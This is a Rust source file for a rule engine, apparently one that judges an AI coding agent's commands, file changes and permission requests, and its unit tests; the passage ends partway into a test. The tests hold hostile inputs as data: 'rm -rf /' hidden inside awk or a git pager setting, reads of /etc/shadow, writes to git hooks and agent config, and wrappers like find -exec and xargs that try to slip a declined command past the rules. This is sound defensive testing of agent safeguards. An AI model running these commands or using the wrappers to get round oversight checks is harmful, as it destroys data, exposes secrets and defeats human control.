//! What the rules say of a request.
//!
//! What always holds: the strictest rule that fits wins (decline before ask before accept). For an
//! accept every part must be covered: each command of a line, each file, each permission. For a decline
//! or an ask one part is enough. What is not sure is a human's.

use crate::glob::normal;
use crate::guarded::guarded;
use crate::places::{named, places};
use crate::risk::{is_known, only_looks};
use crate::rule::{Decision, Rule};
use crate::shell::{CommandLine, SHELLS, Simple, Unclear, Word};
use crate::start::{
    DEPTH_MAX, Line, Sure, begins, is_shell, is_starter, may_carry, may_carry_line, may_run,
    started, starts,
};
use crate::subject::{Asker, FileTouched, Subject, What};
use std::path::{Path, PathBuf};

/// What the rules say.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Judgement<'r> {
    /// The decision.
    pub decision: Decision,
    /// The rules that say so; none where a human is asked because no rule says anything.
    pub rules: Vec<&'r Rule>,
    /// Why.
    pub why: String,
}

impl Judgement<'_> {
    /// Who decided, as the log names it.
    pub fn word(&self) -> String {
        let words: Vec<String> = self.rules.iter().map(|rule| rule.word()).collect();
        words.join(", ")
    }

    fn ask<'r>(why: impl Into<String>) -> Judgement<'r> {
        Judgement { decision: Decision::Ask, rules: Vec::new(), why: why.into() }
    }
}

/// Leads to the place that a path really is at, whatever links lie on the way; `None` where that is not
/// sure. The path is as it was given, `..` and all.
pub type Real<'s> = &'s dyn Fn(&Path) -> Option<PathBuf>;

/// Judges `subject` by the rules that hold at `now`, in Unix microseconds.
pub fn judge<'r>(rules: &'r [Rule], subject: &Subject, now: i64, real: Real<'_>) -> Judgement<'r> {
    let Some(kind) = subject.kind() else {
        return Judgement::ask("no rule answers requests of this kind");
    };
    let case = Case { subject, parts: parts(subject), real };
    let mut fitting = Vec::new();
    for rule in rules {
        if !rule.is_over(now) && rule.kinds.contains(&kind) && case.is_asker(rule) {
            fitting.push(rule);
        }
    }
    let mut doubt = None;
    for decision in [Decision::Decline, Decision::Ask] {
        for rule in fitting.iter().filter(|rule| rule.decision == decision) {
            match case.touches(rule) {
                Sure::Yes => {
                    let why =
                        rule.note.clone().unwrap_or_else(|| format!("rule {} says so", rule.name));
                    return Judgement { decision, rules: vec![rule], why };
                }
                Sure::Perhaps => drop(doubt.get_or_insert(*rule)),
                Sure::No => {}
            }
        }
    }
    if let Some(rule) = doubt {
        let why = format!("it may be what rule {} is about", rule.name);
        return Judgement { decision: Decision::Ask, rules: vec![rule], why };
    }
    let accepting: Vec<&Rule> =
        fitting.into_iter().filter(|rule| rule.decision == Decision::Accept).collect();
    if accepting.is_empty() {
        return Judgement::ask("no rule is about it");
    }
    case.accepted(&accepting)
}

/// What a request consists of, each to be covered by itself.
enum Part<'s> {
    Command(Command),
    File(&'s FileTouched),
    Permissions,
}

/// A command, with what it starts.
struct Command {
    /// Itself.
    simple: Simple,
    /// Each program that it starts, as far as that is told.
    started: Vec<Simple>,
    /// Whether it may start more.
    is_open: bool,
}

impl Command {
    fn new(simple: Simple) -> Command {
        let found = started(&simple.words);
        let with = |words: Vec<Word>| Simple { words, ..simple.clone() };
        let mut command = Command {
            started: found.commands.into_iter().map(with).collect(),
            is_open: found.unsure.is_some(),
            simple,
        };
        for line in found.lines {
            match commands_of(&CommandLine::Text(line), &command.simple.folders) {
                Ok(inner) => {
                    // What it starts in its turn is not followed further.
                    command.is_open |= inner.iter().any(|simple| {
                        let found = started(&simple.words);
                        found.unsure.is_some() || !found.lines.is_empty()
                    });
                    for simple in inner {
                        let more = started(&simple.words).commands.into_iter();
                        let more = more.map(|words| Simple { words, ..simple.clone() });
                        command.started.extend(more.collect::<Vec<_>>());
                        command.started.push(simple);
                    }
                }
                Err(_) => command.is_open = true,
            }
        }
        command
    }

    /// Whether it is, or starts, a command of those first words.
    fn is(&self, words: &[String]) -> Sure {
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        if words.is_empty() {
            return Sure::Yes;
        }
        let all = || std::iter::once(&self.simple).chain(&self.started);
        let best = all().map(|simple| begins(&simple.words, &words)).max().unwrap_or(Sure::No);
        let may = |simple: &Simple| {
            let own = &simple.words;
            let is_vague = is_starter(own) || !is_known(own);
            (is_vague && may_carry(own, &words)) || may_carry_line(own)
        };
        match best == Sure::No && (self.is_open || all().any(may)) {
            true => Sure::Perhaps,
            false => best,
        }
    }
}

fn parts(subject: &Subject) -> Result<Vec<Part<'_>>, Unclear> {
    match &subject.what {
        What::Command { line: None, .. } => Err(Unclear("its command is not known".to_owned())),
        What::Command { line: Some(line), cwd, .. } => {
            let simple = line.simple_commands(cwd.as_deref())?;
            Ok(simple.into_iter().map(Command::new).map(Part::Command).collect())
        }
        What::Files { files, .. } if files.is_empty() => {
            Err(Unclear("its files are not known".to_owned()))
        }
        What::Files { files, .. } => Ok(files.iter().map(Part::File).collect()),
        What::Permissions { .. } => Ok(vec![Part::Permissions]),
        What::Tool { .. } | What::Other => Err(Unclear("nobody knows what it asks".to_owned())),
    }
}

struct Case<'s> {
    subject: &'s Subject,
    parts: Result<Vec<Part<'s>>, Unclear>,
    real: Real<'s>,
}

impl Case<'_> {
    /// Whether the rule is about the session that asks. An agent names and labels its children as it
    /// likes, so nothing is accepted on such a name or label.
    fn is_asker(&self, rule: &Rule) -> bool {
        let asker: &Asker = &self.subject.asker;
        let trusts = asker.is_users_name || rule.decision != Decision::Accept;
        let is = |own: &Option<String>, word: &String| own.as_ref() == Some(word);
        let session = rule.session.as_ref().is_none_or(|word| {
            is(&asker.id, word) || is(&asker.thread, word) || (trusts && is(&asker.name, word))
        });
        let labels = match rule.decision {
            Decision::Accept => &asker.users_labels,
            Decision::Decline | Decision::Ask => &asker.labels,
        };
        session && rule.label.as_ref().is_none_or(|label| labels.contains(label))
    }

    /// Whether the rule is about any part of it.
    fn touches(&self, rule: &Rule) -> Sure {
        if rule.command.is_empty() && rule.path.is_none() {
            return Sure::Yes;
        }
        match &self.parts {
            Ok(parts) => parts.iter().map(|part| self.touches_part(rule, part)).max(),
            // What is known of a line that cannot be read is its folder.
            Err(_) => match &self.subject.what {
                What::Command { cwd: Some(cwd), .. } if rule.command.is_empty() => {
                    Some(self.is_any_in(rule, std::slice::from_ref(cwd)))
                }
                _ => None,
            },
        }
        .unwrap_or(Sure::No)
    }

    fn touches_part(&self, rule: &Rule, part: &Part<'_>) -> Sure {
        match part {
            Part::Command(command) => {
                let all = std::iter::once(&command.simple).chain(&command.started);
                let places = all.map(|simple| self.names(rule, simple)).max().unwrap_or(Sure::No);
                command.is(&rule.command).min(places)
            }
            Part::File(file) => self.is_any_in(rule, std::slice::from_ref(&file.path)),
            Part::Permissions => self.is_any_in(rule, &self.permitted()),
        }
    }

    /// Whether a command names a place of the rule.
    fn names(&self, rule: &Rule, simple: &Simple) -> Sure {
        if rule.path.is_none() {
            return Sure::Yes;
        }
        let sure = self.is_any_in(rule, &named(simple));
        let may = |word: &Word| match places(&word.text, &simple.folders) {
            Some(places) => !word.is_literal || self.is_any_in(rule, &places) > Sure::No,
            None => true,
        };
        match sure == Sure::No && simple.words.iter().skip(1).any(may) {
            true => Sure::Perhaps,
            false => sure,
        }
    }

    fn accepted<'r>(&self, rules: &[&'r Rule]) -> Judgement<'r> {
        let parts = match &self.parts {
            Ok(parts) => parts,
            Err(why) => return Judgement::ask(format!("it is not clear what it does: {why}")),
        };
        let more = match &self.subject.what {
            What::Command { more, .. } => more.first().cloned(),
            What::Files { root: Some(root), .. } => Some(format!("all of {}", root.display())),
            _ => None,
        };
        if let Some(more) = more {
            return Judgement::ask(format!("it asks for more: {more}"));
        }
        let mut used: Vec<&'r Rule> = Vec::new();
        let mut covered = 0;
        for part in parts {
            if matches!(part, Part::Command(Command { simple, .. }) if only_moves(simple)) {
                continue;
            }
            let found = match self.covering(rules, part) {
                Ok(found) => found,
                Err(why) => return Judgement::ask(why),
            };
            covered += 1;
            for rule in found {
                if !used.contains(&rule) {
                    used.push(rule);
                }
            }
        }
        if covered == 0 {
            return Judgement::ask("it does nothing");
        }
        let names: Vec<&str> = used.iter().map(|rule| rule.name.as_str()).collect();
        let why = format!("rule {} covers it", names.join(", "));
        Judgement { decision: Decision::Accept, rules: used, why }
    }

    /// The rules that cover all of a part, or why none does.
    fn covering<'r>(&self, rules: &[&'r Rule], part: &Part<'_>) -> Result<Vec<&'r Rule>, String> {
        match part {
            Part::Command(command) => self.carrying(rules, &command.simple, 0),
            Part::File(file) => {
                let paths = std::slice::from_ref(&file.path);
                let mut within =
                    rules.iter().filter(|rule| self.are_all_in(rule, paths)).peekable();
                let guarded = within.peek().and_then(|rule| self.guards(rule, &file.path));
                let found = within.find(|rule| self.guards(rule, &file.path).is_none());
                let why = guarded.map_or(String::new(), |why| format!(": {why}"));
                let path = file.path.display();
                found.map(|rule| vec![*rule]).ok_or_else(|| format!("no rule covers {path}{why}"))
            }
            Part::Permissions => {
                let found = rules.iter().find(|rule| self.permits(rule)).map(|rule| vec![*rule]);
                found.ok_or_else(|| "no rule covers all of it".to_owned())
            }
        }
    }

    /// Whether the rule covers the permissions that are asked for.
    fn permits(&self, rule: &Rule) -> bool {
        match &self.subject.what {
            What::Permissions { network, reads, writes, more } => {
                rule.path.is_none()
                    || (!network
                        && more.is_empty()
                        && self.are_all_in(rule, reads)
                        && self.are_all_in(rule, writes)
                        && !writes.iter().any(|path| self.guards(rule, path).is_some()))
            }
            _ => false,
        }
    }

    /// The rules that cover a command and all that it starts: the first by which that is so.
    fn carrying<'r>(
        &self,
        rules: &[&'r Rule],
        simple: &Simple,
        depth: usize,
    ) -> Result<Vec<&'r Rule>, String> {
        if only_moves(simple) {
            return Ok(Vec::new());
        }
        let (mut why, mut is_tried) = (None, false);
        for rule in rules.iter().filter(|rule| begins_so(simple, &rule.command)) {
            // What a command starts is the same for all rules that name no word of it.
            let is_wordless = rule.command.is_empty() && rule.path.is_some();
            if is_wordless && is_tried {
                continue;
            }
            let wrong = self
                .own_program(rule, simple)
                .or_else(|| self.beyond(rule, simple, rule.command.len()));
            let found = match wrong {
                Some(why) => Err(why),
                None => {
                    is_tried |= is_wordless;
                    self.carried(rules, rule, simple, rule.command.len(), depth)
                }
            };
            match found {
                Ok(more) => return Ok([vec![*rule], more].concat()),
                Err(found) => drop(why.get_or_insert(found)),
            }
        }
        let text = simple.text();
        Err(match why {
            Some(why) if depth > 0 => why,
            Some(why) => format!("no rule covers `{text}`: {why}"),
            None => format!("no rule covers `{text}`"),
        })
    }

    /// The rules that cover what a command starts, where `rule` covers itself. What is among its first
    /// `known` words is the user's own: the rule names it.
    fn carried<'r>(
        &self,
        rules: &[&'r Rule],
        rule: &'r Rule,
        simple: &Simple,
        known: usize,
        depth: usize,
    ) -> Result<Vec<&'r Rule>, String> {
        // Everything was accepted.
        if rule.command.is_empty() && rule.path.is_none() {
            return Ok(Vec::new());
        }
        if depth >= DEPTH_MAX {
            return Err("programs start programs".to_owned());
        }
        let words = &simple.words;
        let found = starts(words, known);
        let vague = match rule.command.is_empty() {
            true => may_carry_line(words).then(|| "a shell reads what stands behind it".to_owned()),
            false => may_run(words, known),
        };
        if let Some(why) = found.unsure.or(vague) {
            return Err(why);
        }
        let mut used = Vec::new();
        for start in found.commands {
            let inner = Simple {
                words: start.words,
                reads: Vec::new(),
                writes: Vec::new(),
                folders: if start.is_elsewhere { Vec::new() } else { simple.folders.clone() },
                is_cd: false,
            };
            let named = known.saturating_sub(start.at);
            if named > 0 {
                let wrong = self.own_program(rule, &inner);
                if let Some(why) = wrong.or_else(|| self.beyond(rule, &inner, named)) {
                    return Err(why);
                }
                used.extend(self.carried(rules, rule, &inner, named, depth + 1)?);
            } else if start.is_elsewhere {
                let (text, program) = (inner.text(), simple.program());
                return Err(format!("`{program}` starts `{text}` elsewhere, or as somebody else"));
            } else if is_shell(&inner.words) && inner.words.iter().all(|word| word.is_literal) {
                let words = inner.words.iter().map(|word| word.text.clone()).collect();
                let found = commands_of(&CommandLine::Words(words), &inner.folders);
                for simple in found.map_err(|why| why.to_string())? {
                    used.extend(self.carrying(rules, &simple, depth + 1)?);
                }
            } else {
                used.extend(self.carrying(rules, &inner, depth + 1)?);
            }
        }
        for Line { at, end, text } in found.lines {
            // The rule has the whole line, or how its only command begins.
            if end <= known {
                continue;
            }
            let own: Vec<String> =
                words[at.min(known)..known].iter().map(|word| word.text.clone()).collect();
            let found = commands_of(&CommandLine::Text(text), &simple.folders);
            for simple in found.map_err(|why| why.to_string())? {
                let is_named = !own.is_empty() && begins_so(&simple, &own);
                if is_named && self.beyond(rule, &simple, own.len()).is_none() {
                    used.extend(self.carried(rules, rule, &simple, own.len(), depth + 1)?);
                } else {
                    used.extend(self.carrying(rules, &simple, depth + 1)?);
                }
            }
        }
        Ok(used)
    }

    /// Why a rule by its words does not cover a command: its program, or a shell that may have started
    /// it, has a bare name, and is found where the agent may write.
    fn own_program(&self, rule: &Rule, simple: &Simple) -> Option<String> {
        if rule.command.is_empty() || rule.anywhere {
            return None;
        }
        let own = &self.subject.asker.programs;
        let mut names = std::iter::once(simple.program()).chain(SHELLS.iter().copied());
        let name = names.find(|name| own.contains(*name))?;
        Some(format!(
            "`{name}` is found in a folder that the agent may write; rule {} names no path of it",
            rule.name
        ))
    }

    /// Why a rule does not cover the places of a command: a folder it may run in, a file that the shell
    /// opens, an argument behind the first `known` words that may be a place.
    fn beyond(&self, rule: &Rule, simple: &Simple, known: usize) -> Option<String> {
        let name = &rule.name;
        let shown = |path: &Path| path.display().to_string();
        if rule.path.is_none() {
            let file = simple.writes.first()?;
            return Some(format!("rule {name} has no path, and it writes into {}", file.display()));
        }
        if simple.folders.is_empty() {
            return Some(format!("rule {name} has a path, and where it runs is not known"));
        }
        let beyond = |what: String| format!("rule {name} has a path, and {what} may be beyond it");
        let guards = |path: &Path| self.guards(rule, path);
        let shown_word = |word: &Word| match word.text.as_str() {
            "" => "its input".to_owned(),
            text => text.to_owned(),
        };
        // Whoever only looks may look at what is guarded.
        let looks = only_looks(&simple.words);
        for word in simple.words.iter().skip(known.max(1)) {
            let Some(places) = places(&word.text, &simple.folders).filter(|_| word.is_literal)
            else {
                return Some(beyond(shown_word(word)));
            };
            if !self.are_all_in(rule, &places) {
                return Some(beyond(shown_word(word)));
            }
            if let Some(why) = places.iter().filter(|_| !looks).find_map(|path| guards(path)) {
                return Some(why);
            }
        }
        let mut opened = simple.folders.iter().chain(&simple.writes).chain(&simple.reads);
        let outside = opened.find(|path| !self.are_all_in(rule, std::slice::from_ref(path)));
        let folders = simple.folders.iter().filter(|_| !looks);
        outside
            .map(|path| beyond(shown(path)))
            .or_else(|| folders.chain(&simple.writes).find_map(|path| guards(path)))
    }

    /// Why a rule with a path does not cover a change there, although it lies within.
    fn guards(&self, rule: &Rule, path: &Path) -> Option<String> {
        let glob = rule.path.as_ref()?;
        let is_meant = |name: &str| glob.names(name);
        let told = Some(normal(path));
        let in_one = |path: PathBuf| guarded(glob.compared(&path, self.base())?, is_meant);
        let name = [told, (self.real)(path)].into_iter().flatten().find_map(in_one)?;
        let (rule, path) = (&rule.name, path.display());
        Some(format!("the path of rule {rule} does not name {name}, and {path} is guarded"))
    }

    fn permitted(&self) -> Vec<PathBuf> {
        match &self.subject.what {
            What::Permissions { reads, writes, .. } => {
                reads.iter().chain(writes).cloned().collect()
            }
            _ => Vec::new(),
        }
    }

    fn base(&self) -> Option<&Path> {
        self.subject.asker.cwd.as_deref()
    }

    /// Both where it is said to be and where it is: a link leads out of any folder.
    fn are_all_in(&self, rule: &Rule, paths: &[PathBuf]) -> bool {
        let Some(glob) = &rule.path else { return true };
        paths.iter().all(|path| {
            glob.covers(path, self.base())
                && (self.real)(path).is_some_and(|real| glob.covers(&real, self.base()))
        })
    }

    /// Where it is said to be, or where it is.
    fn is_any_in(&self, rule: &Rule, paths: &[PathBuf]) -> Sure {
        let Some(glob) = &rule.path else { return Sure::Yes };
        let one = |path: &PathBuf| match (self.real)(path) {
            _ if glob.covers(path, self.base()) => Sure::Yes,
            Some(real) if glob.covers(&real, self.base()) => Sure::Yes,
            Some(_) => Sure::No,
            None => Sure::Perhaps,
        };
        paths.iter().map(one).max().unwrap_or(Sure::No)
    }
}

/// What a line runs, wherever it may be run.
fn commands_of(line: &CommandLine, folders: &[PathBuf]) -> Result<Vec<Simple>, Unclear> {
    if folders.is_empty() {
        return line.simple_commands(None);
    }
    let mut found = Vec::new();
    for folder in folders {
        found.extend(line.simple_commands(Some(folder))?);
    }
    Ok(found)
}

/// Whether a command does nothing but change the folder.
fn only_moves(simple: &Simple) -> bool {
    simple.is_cd && simple.writes.is_empty() && simple.reads.is_empty()
}

/// Whether a command begins with exactly those words, all of them sure.
fn begins_so(simple: &Simple, words: &[String]) -> bool {
    simple.words.len() >= words.len()
        && simple.words.iter().zip(words).all(|(own, word)| own.is_literal && own.text == *word)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::file::RuleFile;
    use crate::links::{Found, followed};
    use crate::shell::CommandLine;
    use proptest::prelude::*;

    fn rules(text: &str) -> Vec<Rule> {
        RuleFile::parse(text, "rules.toml").unwrap_or_else(|faults| panic!("{faults:?}")).rules
    }

    fn asker() -> Asker {
        Asker {
            id: Some("ab12".into()),
            thread: Some("T1".into()),
            name: Some("worker".into()),
            labels: vec!["role=tester".into()],
            users_labels: vec!["role=tester".into()],
            is_users_name: true,
            cwd: Some("/repo".into()),
            programs: Default::default(),
        }
    }

    fn command(text: &str) -> Subject {
        let line = Some(CommandLine::Text(text.to_owned()));
        let what = What::Command { line, cwd: Some("/repo".into()), more: Vec::new() };
        Subject { what, asker: asker() }
    }

    fn files(paths: &[&str]) -> Subject {
        let file = |path: &&str| FileTouched { path: path.into(), is_deleted: false };
        let what = What::Files { files: paths.iter().map(file).collect(), root: None };
        Subject { what, asker: asker() }
    }

    /// `/repo/link` and `/repo/plink` lead to `/etc`, `/repo/hooks` to those of git.
    fn real(path: &Path) -> Option<PathBuf> {
        followed(path, &|path| match path.to_str() {
            Some("/repo/link" | "/repo/plink") => Found::Link("/etc".into()),
            Some("/repo/hooks") => Found::Link(".git/hooks".into()),
            Some("/repo/new") => Found::Missing,
            _ => Found::Plain,
        })
    }

    fn says(rules: &[Rule], subject: &Subject) -> Decision {
        judge(rules, subject, 1_000, &real).decision
    }

    const TESTS: &str =
        "[[rule]]\nname='tests'\ndecision='accept'\ncommand='cargo test'\npath='/repo'\n";

    #[test]
    fn every_command_of_a_line_must_be_covered() {
        let own = rules(&format!("{TESTS}[[rule]]\ndecision='accept'\ncommand='ls'\n"));
        for text in [
            "cargo test",
            "/bin/bash -lc 'cargo test --all && ls -la'",
            "cd sub && cargo test",
            "cargo test > out.txt",
            "cargo test 2>&1 | ls",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Accept, "{text}");
        }
        for text in [
            "cargo testing",
            "cargo",
            "./cargo test",
            "cargo test && rm x",
            "cargo test; $(rm x)",
            "cargo t*st",
            "env cargo test",
            "cd /etc && cargo test",
            "cd link && cargo test",
            "cargo test > /etc/x",
            "cargo test > link/x",
            "ls > x",
            "cd sub",
            "X=1 cargo test",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Ask, "{text}");
        }
        let both = judge(&own, &command("cargo test | ls"), 1_000, &real).word();
        assert_eq!(both, "rule: tests (rules.toml:1), rule: rule-2 (rules.toml:6)");
    }

    #[test]
    fn the_strictest_rule_wins_wherever_it_stands() {
        let own = rules(
            "[[rule]]\ndecision='accept'\nkind='command'\n[[rule]]\ndecision='ask'\ncommand='git push'\n\
             [[rule]]\nname='no rm'\ndecision='decline'\ncommand='rm'\nnote='use trash'\n",
        );
        assert_eq!(says(&own, &command("anything at all")), Decision::Accept);
        assert_eq!(says(&own, &command("ls && git push")), Decision::Ask);
        for text in [
            "ls; git push; rm x",
            "/bin/rm x",
            "sudo -u me rm x",
            "timeout 5 rm x",
            "xargs rm",
            "env A=1 nice rm x",
            "bash -c 'rm x'",
        ] {
            let told = judge(&own, &command(text), 1_000, &real);
            assert_eq!(
                (told.decision, told.why.as_str()),
                (Decision::Decline, "use trash"),
                "{text}"
            );
        }
        assert_eq!(says(&own, &command("echo $(rm x)")), Decision::Ask);
        assert_eq!(says(&own, &command("echo rm")), Decision::Accept);
    }

    #[test]
    fn a_file_change_is_covered_file_by_file() {
        let own = rules(
            "[[rule]]\ndecision='accept'\npath='/repo/src'\n[[rule]]\ndecision='accept'\npath='docs/*.md'\n\
             [[rule]]\ndecision='decline'\npath='**/.git'\n",
        );
        assert_eq!(says(&own, &files(&["/repo/src/a.rs", "/repo/docs/a.md"])), Decision::Accept);
        assert_eq!(says(&own, &files(&["/repo/src/a.rs", "/repo/x"])), Decision::Ask);
        assert_eq!(says(&own, &files(&["/repo/src/../x"])), Decision::Ask);
        assert_eq!(says(&own, &files(&["/repo/src/a", "/repo/.git/hooks/x"])), Decision::Decline);
        assert_eq!(says(&own, &files(&[])), Decision::Ask);
        assert_eq!(says(&own, &command("cat .git/config")), Decision::Decline);
        let mut more = files(&["/repo/src/a.rs"]);
        if let What::Files { root, .. } = &mut more.what {
            *root = Some("/".into());
        }
        assert_eq!(says(&own, &more), Decision::Ask);
    }

    #[test]
    fn permissions_are_accepted_only_by_a_rule_that_says_so() {
        let subject = |network, writes: &[&str]| {
            let writes = writes.iter().map(PathBuf::from).collect();
            let what = What::Permissions { network, reads: Vec::new(), writes, more: Vec::new() };
            Subject { what, asker: asker() }
        };
        let silent = rules("[[rule]]\ndecision='accept'\nkind=['command','file_change']\n");
        assert_eq!(says(&silent, &subject(false, &["/repo"])), Decision::Ask);
        let within = rules("[[rule]]\ndecision='accept'\nkind='permissions'\npath='/repo'\n");
        assert_eq!(says(&within, &subject(false, &["/repo/a"])), Decision::Accept);
        assert_eq!(says(&within, &subject(true, &["/repo/a"])), Decision::Ask);
        assert_eq!(says(&within, &subject(false, &["/repo/a", "/etc"])), Decision::Ask);
        let all = rules("[[rule]]\ndecision='accept'\nkind='permissions'\n");
        assert_eq!(says(&all, &subject(true, &["/"])), Decision::Accept);
        let never = rules("[[rule]]\ndecision='decline'\n");
        assert_eq!(says(&never, &subject(true, &[])), Decision::Decline);
    }

    #[test]
    fn a_path_is_of_the_arguments_too() {
        let own = rules(
            "[[rule]]\ndecision='accept'\ncommand='touch'\npath='/repo'\n\
             [[rule]]\ndecision='accept'\ncommand='cat /etc/motd'\npath='/repo/**'\n",
        );
        for text in [
            "touch x src/x ./y --date=2020-01-01 -t 1.5",
            "touch /repo/x a/../b",
            "cd src && touch ../x",
            "touch -r /dev/null x",
            "touch a=b c:d https://example.org/x",
            "cat /etc/motd",
            "cat /etc/motd README.md",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Accept, "{text}");
        }
        for text in [
            "touch /etc/x",
            "touch x ../x",
            "touch x --reference=/etc/x",
            "touch -r/etc/x",
            "touch -r../x",
            "touch a:/etc/x a,/etc/x @/etc/x",
            "touch file:///etc/x",
            "touch https://example.org,/etc/x",
            "touch a=//etc/x",
            "touch ~/x",
            "touch '~/x'",
            "touch *",
            "touch {a,/etc/x}",
            "touch link/x",
            "touch link",
            "cd src && touch ../../x",
            "cat /etc/motd /etc/passwd",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Ask, "{text}");
        }
        let judged = judge(&own, &command("touch /etc/x"), 1_000, &real);
        assert!(judged.why.contains("/etc/x may be beyond it"), "{}", judged.why);
    }

    #[test]
    fn what_lies_outside_is_not_accepted_by_a_rule_with_a_path() {
        let own = rules(
            "[[rule]]\ndecision='accept'\ncommand='cat'\npath='/repo'\n\
             [[rule]]\ndecision='accept'\ncommand='echo'\npath='/repo'\n\
             [[rule]]\ndecision='accept'\ncommand='grep'\npath='/repo'\n\
             [[rule]]\ndecision='accept'\ncommand='true'\n\
             [[rule]]\ndecision='accept'\ncommand='cp'\npath='/repo'\n",
        );
        for text in [
            "cat a/../b",
            "cat < in",
            "cd sub && cat x | grep y",
            "grep -rn x src",
            "cp --target=sub/x -v a",
            "true || cd sub && cat x",
            "echo hi >> sub/../out",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Accept, "{text}");
        }
        for text in [
            "cat link/../etc/shadow",
            "cp x link/../etc/y",
            "echo hi > link/../etc/zz",
            "cat < /etc/shadow",
            "cat < link/../x",
            "cat <link/shadow",
            "cat new/../x",
            "cat https://../../etc/shadow",
            "cd link/.. && cat x",
            "/bin/zsh -lc 'echo hi >!/etc/x'",
            "/bin/zsh -lc 'echo hi &>!/etc/x'",
            "grep -fplink x",
            "grep -rfplink x",
            "grep -f/etc/x y",
            "cat 'x /etc/shadow'",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Ask, "{text}");
        }
        let in_etc = |text: &str| {
            let mut subject = command(text);
            if let What::Command { cwd, .. } = &mut subject.what {
                *cwd = Some("/etc".into());
            }
            says(&own, &subject)
        };
        assert_eq!(in_etc("cd /repo && cat passwd"), Decision::Accept);
        for text in [
            "cd /repo | cat passwd",
            "cd /repo & cat passwd",
            "cd . || cd /repo && cat passwd",
            "true || cd /repo && cat passwd",
            "cd /repo; cat passwd",
        ] {
            assert_eq!(in_etc(text), Decision::Ask, "{text}");
        }
    }

    #[test]
    fn nothing_leads_round_a_decline_or_an_ask() {
        let own = rules(
            "[[rule]]\ndecision='accept'\nkind='command'\n\
             [[rule]]\ndecision='ask'\ncommand=['git','push']\n\
             [[rule]]\ndecision='decline'\ncommand='rm'\n",
        );
        for text in [
            "find . -exec rm {} +",
            "find . -execdir /bin/rm {} ';'",
            "find . -ok rm {} ';'",
            "fd x -x rm",
            "ls | xargs -n 1 rm -f",
            "env A=1 timeout -k 1 5 nice -n 3 rm x",
            "xargs sh -c 'ls; rm x'",
            "find . -exec sh -c 'rm x' ';'",
            "env bash -c 'rm x'",
            "watch 'rm x'",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Decline, "{text}");
        }
        for text in [
            "git -C . push",
            "git --no-pager push",
            "git -c a=b push",
            "git --git-dir=.git --work-tree . push origin",
            "find . -exec git -C {} push ';'",
            "echo push | xargs git",
            "xargs env",
            "find . -exec {} ';'",
            "awk 'BEGIN{system(\"rm -rf /\")}'",
            "git -c core.pager='rm -rf /' log",
            "sed 's/x/rm/e' f",
            "rg --pre rm x",
            "docker exec c rm x",
            "sudo -Z u rm x",
            "git pu*",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Ask, "{text}");
        }
        for text in ["git log push", "git -C push status", "echo rm", "find . -name rm", "xargs ls"]
        {
            assert_eq!(says(&own, &command(text)), Decision::Accept, "{text}");
        }
        let secret = rules(
            "[[rule]]\ndecision='accept'\nkind='command'\n\
             [[rule]]\ndecision='decline'\npath='/repo/secret'\n",
        );
        for (text, decision) in [
            ("cat ./secret/x", Decision::Decline),
            ("cat < secret/x", Decision::Decline),
            ("cat secret", Decision::Ask),
            ("cat se*", Decision::Ask),
            ("cat other", Decision::Accept),
        ] {
            assert_eq!(says(&secret, &command(text)), decision, "{text}");
        }
        // An accept is of what stands there, word by word.
        let strict = rules("[[rule]]\ndecision='accept'\ncommand=['git','status']\n");
        assert_eq!(says(&strict, &command("git -C . status")), Decision::Ask);
    }

    #[test]
    fn what_says_what_runs_later_is_accepted_only_by_name() {
        let own = rules(
            "[[rule]]\ndecision='accept'\npath='/repo'\n[[rule]]\ndecision='accept'\npath='sub/.git'\n",
        );
        for path in [
            "/repo/.codex/config.toml",
            "/repo/.git/hooks/pre-commit",
            "/repo/a/.Git/x",
            "/repo/.agents",
            "/repo/hooks/x",
            "/repo/sub/.codex/x",
        ] {
            assert_eq!(says(&own, &files(&[path])), Decision::Ask, "{path}");
        }
        let judged = judge(&own, &files(&["/repo/.git/x"]), 1_000, &real);
        assert!(judged.why.contains("/repo/.git/x is guarded"), "{}", judged.why);
        for path in ["/repo/.gitignore", "/repo/.github/x", "/repo/sub/.git/x", "/repo/a.git/x"] {
            assert_eq!(says(&own, &files(&[path])), Decision::Accept, "{path}");
        }
        for text in [
            "echo x > .git/config",
            "cp a .codex/config.toml",
            "cp a hooks/pre-commit",
            "tee --output=.agents/x",
            "cd .git && touch x",
            "find . -exec cp a .git/x ';'",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Ask, "{text}");
        }
        for text in ["cat .git/config", "cat < .git/x", "cd .git && ls", "rg -g '!.git' x"] {
            assert_eq!(says(&own, &command(text)), Decision::Accept, "{text}");
        }
        // The session's own folder may lie in such a one.
        let mut inside = files(&["/x/.codex/worktrees/a/b", "/x/.codex/worktrees/a/.git/b"]);
        inside.asker.cwd = Some("/x/.codex/worktrees/a".into());
        let own = rules("[[rule]]\ndecision='accept'\npath='.'\n");
        assert_eq!(says(&own, &inside), Decision::Ask);
        if let What::Files { files, .. } = &mut inside.what {
            files.pop();
        }
        assert_eq!(says(&own, &inside), Decision::Accept);
    }

    #[test]
    fn a_program_of_the_agents_own_is_accepted_by_its_path_or_anywhere() {
        let own = rules(
            "[[rule]]\ndecision='accept'\ncommand='ls'\n[[rule]]\ndecision='accept'\ncommand='nice'\n\
             [[rule]]\ndecision='accept'\ncommand='./.venv/bin/ruff'\n\
             [[rule]]\ndecision='accept'\ncommand='pytest'\nanywhere=true\n",
        );
        let with = |programs: &[&str], text: &str| {
            let mut subject = command(text);
            subject.asker.programs = programs.iter().map(|name| (*name).to_owned()).collect();
            says(&own, &subject)
        };
        let venv = &["ls", "pytest", "ruff"];
        for text in ["./.venv/bin/ruff x", "pytest -x", "nice pytest"] {
            assert_eq!(with(venv, text), Decision::Accept, "{text}");
        }
        for text in ["ls", "nice ls", "bash -c ls"] {
            assert_eq!(with(venv, text), Decision::Ask, "{text}");
            assert_eq!(with(&["pytest"], text), Decision::Accept, "{text}");
            assert_eq!(with(&["bash"], text), Decision::Ask, "{text}");
        }
    }

    #[test]
    fn an_accept_is_of_what_a_command_starts_too() {
